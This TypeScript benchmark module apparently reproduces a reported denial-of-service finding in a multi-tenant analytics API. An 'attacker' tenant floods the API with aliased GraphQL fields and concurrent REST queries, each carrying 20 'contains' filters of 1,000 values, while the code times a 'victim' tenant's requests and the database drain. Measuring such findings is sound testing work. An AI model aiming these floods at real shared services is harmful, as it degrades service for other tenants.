import { waitForIdleDatabase } from './database-idle';
import { say } from './progress';
import { startFlood, victimLoop, type Send, type VictimRun } from './flood';
import type { BenchTenant } from './tenant';
import { emptyCondition, summariseCondition, type Condition } from './victim-stats';

/** Issue 31, finding 4: the attacker's query, 20 `contains` filters of 1,000 values each (the most the API takes per filter). */
export const HEAVY_FILTERS = 20;
export const HEAVY_VALUES = 1_000;
/** Aliased `executeAnalyticsQuery` fields per GraphQL flood request, and such requests in flight. */
export const GRAPHQL_ALIASES = 15;
export const GRAPHQL_IN_FLIGHT = 3;
/** Heavy REST queries in flight. */
export const REST_IN_FLIGHT = 16;
/** The victim's query: a count over its own lines. */
export const VICTIM_QUERY = { measures: ['revenue.count'] };
/** Time the flood gets to reach the database before the victim's first timed request. */
const RAMP_MS = 500;

/**
 * Each filter's values miss every item name but the last, which matches all (ILIKE is
 * case-insensitive), so every row is compared with all 20,000 patterns: the worst such a query does.
 */
export function heavyQuery(): Record<string, unknown> {
  const filters = Array.from({ length: HEAVY_FILTERS }, (_, f) => ({
    member: 'revenue.itemName',
    operator: 'contains',
    values: [...Array.from({ length: HEAVY_VALUES - 1 }, (_, i) => `zq${f}x${i}`), 'item'],
  }));
  return { measures: ['revenue.count'], filters };
}

/** A flood the victim is measured under. */
export interface AnalyticsFlood {
  name: string;
  /** One line for the report: what the attacker sends. */
  description: string;
  send: Send;
  inFlight: number;
}

/** The two floods of finding 4: aliased GraphQL fields, and concurrent REST queries. */
export function analyticsFloods(url: string, attacker: BenchTenant): AnalyticsFlood[] {
  const query = heavyQuery();
  const headers = { ...attacker.headers, 'content-type': 'application/json' };
  const fields = Array.from({ length: GRAPHQL_ALIASES }, (_, i) => `a${i}: executeAnalyticsQuery(query: $q) { data }`).join(' ');
  const graphqlBody = JSON.stringify({ query: `query Flood($q: JSON!) { ${fields} }`, variables: { q: query } });
  const restBody = JSON.stringify(query);
  const kb = (text: string) => `${Math.round(text.length / 1024)} KB`;
  return [
    {
      name: 'GraphQL',
      description: `${GRAPHQL_IN_FLIGHT} requests in flight, each ${GRAPHQL_ALIASES} aliased \`executeAnalyticsQuery\` fields sharing one ${HEAVY_FILTERS} x ${HEAVY_VALUES}-value \`contains\` query (${kb(graphqlBody)})`,
      send: () => fetch(`${url}/graphql`, { method: 'POST', headers, body: graphqlBody }),
      inFlight: GRAPHQL_IN_FLIGHT,
    },
    {
      name: 'REST',
      description: `${REST_IN_FLIGHT} \`POST /analytics/widgets/execute-query\` in flight, each the ${HEAVY_FILTERS} x ${HEAVY_VALUES}-value \`contains\` query (${kb(restBody)})`,
      send: () => fetch(`${url}/analytics/widgets/execute-query`, { method: 'POST', headers, body: restBody }),
      inFlight: REST_IN_FLIGHT,
    },
  ];
}

/** The victim alone and under one flood, and what the flood's requests were answered. */
export interface FloodComparison {
  flood: string;
  description: string;
  alone: Condition;
  flooded: Condition;
  floodAnswers: Record<string, number>;
  /** After each flooded round, how long the database took to fall idle once the flood's answers were in (ms; null: not within the limit). */
  drains: (number | null)[];
}

/** The victim's small query (REST), as a sender for its loop. */
export function victimSender(url: string, victim: BenchTenant): Send {
  const headers = { ...victim.headers, 'content-type': 'application/json' };
  const body = JSON.stringify(VICTIM_QUERY);
  return (signal) => fetch(`${url}/analytics/widgets/execute-query`, { method: 'POST', headers, body, signal });
}

/** How long to wait, after a flood, for the database to fall idle before the next round. */
const DRAIN_LIMIT_MS = 120_000;

/**
 * `rounds` pairs of rounds, alone then flooded, the order reversed every other pair (A F, F A,
 * ...), so what drifts during the run falls on both. A flooded round starts the flood, gives it
 * RAMP_MS, runs the victim's loop for `seconds` (a victim request unanswered after `boundMs` counts
 * at the bound), stops the flood, waits for its requests in flight and then for the database to
 * fall idle, so the next round starts on an idle server.
 */
export async function compareUnderFlood(victim: Send, flood: AnalyticsFlood, options: { rounds: number; seconds: number; boundMs: number; databaseUrl: string }): Promise<FloodComparison> {
  const { rounds, seconds, boundMs, databaseUrl } = options;
  const result: FloodComparison = { flood: flood.name, description: flood.description, alone: emptyCondition(), flooded: emptyCondition(), floodAnswers: {}, drains: [] };
  const record = (condition: Condition, run: VictimRun) => {
    condition.rounds.push(run.samples);
    condition.censored += run.censored;
    for (const [kind, n] of Object.entries(run.failures)) condition.failures[kind] = (condition.failures[kind] ?? 0) + n;
  };
  for (let r = 0; r < rounds; r++) {
    for (const flooded of r % 2 === 0 ? [false, true] : [true, false]) {
      if (!flooded) {
        record(result.alone, await victimLoop(victim, seconds, boundMs));
        continue;
      }
      const running = startFlood(flood.send, flood.inFlight);
      await new Promise((resolve) => setTimeout(resolve, RAMP_MS));
      record(result.flooded, await victimLoop(victim, seconds, boundMs));
      const answers = await running.stop();
      for (const [kind, n] of Object.entries(answers)) result.floodAnswers[kind] = (result.floodAnswers[kind] ?? 0) + n;
      const drain = await waitForIdleDatabase(databaseUrl, DRAIN_LIMIT_MS);
      result.drains.push(drain);
      if (drain === null) say(`analytics, ${flood.name} flood: the database was still busy ${DRAIN_LIMIT_MS / 1000} s after the flood's last answer`);
    }
    const last = (condition: Condition) => summariseCondition({ ...condition, rounds: condition.rounds.slice(-1) });
    const [alone, under] = [last(result.alone), last(result.flooded)];
    say(`analytics, ${flood.name} flood, round ${r + 1}/${rounds}: victim p50 alone ${alone.p50.toFixed(0)} ms (${alone.count}), under flood ${under.p50.toFixed(0)} ms (${under.count}); idle again ${((result.drains.at(-1) ?? NaN) / 1000).toFixed(1)} s after the flood's last answer`);
  }
  return result;
}
